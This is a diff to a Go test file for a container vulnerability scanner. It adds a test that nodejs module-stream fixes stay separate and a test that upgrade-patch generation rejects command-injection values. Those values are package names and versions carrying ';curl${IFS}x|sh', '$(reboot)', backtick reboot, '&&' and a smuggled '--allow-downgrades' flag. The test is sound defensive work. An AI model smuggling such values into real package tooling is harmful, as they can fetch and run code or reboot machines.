@@ -10,6 +10,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
+
 	"github.com/scantling/scantling/model"
 	"github.com/scantling/scantling/registry/image"
 )
@@ -244,4 +246,59 @@ func TestOrderAgainstRPM(t *testing.T) {
 		}
 	}
 	t.Logf("%d pairs", pairs)
+}
+
+// TestFixPlanOfStreams: the fix of one stream is none of another, also where
+// two images have both.
+func TestFixPlanOfStreams(t *testing.T) {
+	record := func(id, stream, fixed string) string {
+		return fmt.Sprintf(`{"id":%q,"modified":%q,"summary":"Important: nodejs:%s security update","affected":[{"package":{"ecosystem":"AlmaLinux:8","name":"nodejs"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":%q}]}]}]}`, id, day2, stream, fixed)
+	}
+	db, _ := load(t, folder(t, map[string]string{
+		kevFile:                 kevJSON,
+		"AlmaLinux/ALSA-1.json": record("ALSA-1", "16", "1:16.20.2-2.module_el8.8.0+3613+1ed8c91d"),
+		"AlmaLinux/ALSA-2.json": record("ALSA-2", "18", "1:18.20.0-1.module_el8.9.0+3700+aaaaaaaa"),
+	}), All)
+	inv := func(stream, version string) *image.Inventory {
+		return &image.Inventory{Digest: "sha256:" + stream, Name: stream, Packages: []image.Package{alma("nodejs", version, "nodejs:"+stream)}}
+	}
+	invs := []*image.Inventory{inv("16", "1:16.1.0-1.module_el8.8.0+1+1"), inv("18", "1:18.1.0-1.module_el8.9.0+1+1")}
+	want := []string{
+		"1 upgrade nodejs 1:16.1.0-1.module_el8.8.0+1+1 → 1:16.20.2-2.module_el8.8.0+3613+1ed8c91d | unknown | sha256:16 | 1 matches 0 kev 0 critical 0 high | ALSA-1",
+		"2 upgrade nodejs 1:18.1.0-1.module_el8.9.0+1+1 → 1:18.20.0-1.module_el8.9.0+3700+aaaaaaaa | unknown | sha256:18 | 1 matches 0 kev 0 critical 0 high | ALSA-2",
+	}
+	if diff := cmp.Diff(want, outline(judge(t).Judge(invs, db, Config{}).FixPlan(never, day))); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+}
+
+// TestPatchIsNoProgram: what an advisory or an image calls a version or a
+// package never becomes a second command.
+func TestPatchIsNoProgram(t *testing.T) {
+	for _, tc := range [][3]string{
+		{"PyPI", "a", "1.0';curl${IFS}x|sh;'"},
+		{"npm", "a;reboot", "1.0.0"},
+		{"npm", "a", "1.0.0$(reboot)"},
+		{"Go", "example.com/a`reboot`", "1.0.0"},
+		{"RubyGems", "a&&b", "1"},
+		{"NuGet", "a|b", "1"},
+		{"crates.io", "-p", "1.0.0"},
+	} {
+		if got := upgradePatch(tc[0], tc[1], tc[2], []string{tc[1]}); got != "" {
+			t.Errorf("%q", got)
+		}
+	}
+	for _, name := range []string{"lib;x", "a b", "$(x)", "--allow-downgrades"} {
+		if got := upgradePatch("Debian:12", "lib", "1.0-1", []string{"libok", name}); got != "" {
+			t.Errorf("%q", got)
+		}
+	}
+	for _, tc := range [][3]string{{"npm", "@angular/core", "1.0.0-rc.1+build"}, {"Go", "github.com/Masterminds/semver/v3", "3.1.0"}, {"Packagist", "symfony/http-kernel", "5.4.20"}} {
+		if upgradePatch(tc[0], tc[1], tc[2], nil) == "" {
+			t.Errorf("none for %v", tc)
+		}
+	}
+	if upgradePatch("Debian:12", "g++-12", "1:12.2.0-14+deb12u1~x", []string{"libstdc++6"}) == "" {
+		t.Error("none for the names of Debian")
+	}
 }
